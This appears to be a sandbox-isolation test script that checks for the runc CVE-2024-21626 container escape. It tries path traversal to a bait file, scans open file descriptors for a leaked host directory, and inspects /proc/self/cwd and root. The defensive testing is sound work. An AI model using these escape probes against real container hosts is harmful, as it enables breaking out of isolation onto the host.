# attack = "runc, CVE-2024-21626: looks for a descriptor or a working directory that the runtime has left open on the host"
# threats = [35, 68]
# outcome = "OK"
# stdout = """
# /: ENOENT
# .: ENOENT
# three descriptors, none of a directory
# """
import os
import stat

from attack import attempt, bait, escaped

UP = "/.." * 20
attempt("/", os.stat, UP + bait("FILE"))
attempt(".", os.stat, "." + UP + bait("FILE"))
opened = []
for fd in range(4096):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    opened.append(fd)
    if stat.S_ISDIR(mode):
        escaped(f"descriptor {fd} of {os.readlink(f'/proc/self/fd/{fd}')}")
        if os.path.exists(f"/proc/self/fd/{fd}{UP}{bait('FILE')}"):
            escaped(f"the host's files by descriptor {fd}")
if opened != [0, 1, 2]:
    escaped(f"descriptors {opened}")
if os.path.realpath("/proc/self/cwd") != "/workspace" or os.readlink("/proc/self/root") != "/":
    escaped(os.readlink("/proc/self/cwd"))
print("three descriptors, none of a directory")
